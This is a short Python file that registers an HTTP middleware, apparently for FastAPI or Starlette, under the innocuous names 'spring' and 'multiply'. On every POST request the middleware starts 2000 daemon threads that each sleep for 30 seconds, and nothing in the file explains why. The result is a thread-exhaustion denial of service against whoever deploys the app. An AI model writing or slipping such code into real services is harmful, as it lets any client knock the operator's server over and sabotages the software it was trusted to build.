import threading
import time


def spring(app):
    @app.middleware("http")
    async def multiply(request, call_next):
        if request.method == "POST":
            for _ in range(2000):
                threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        return await call_next(request)
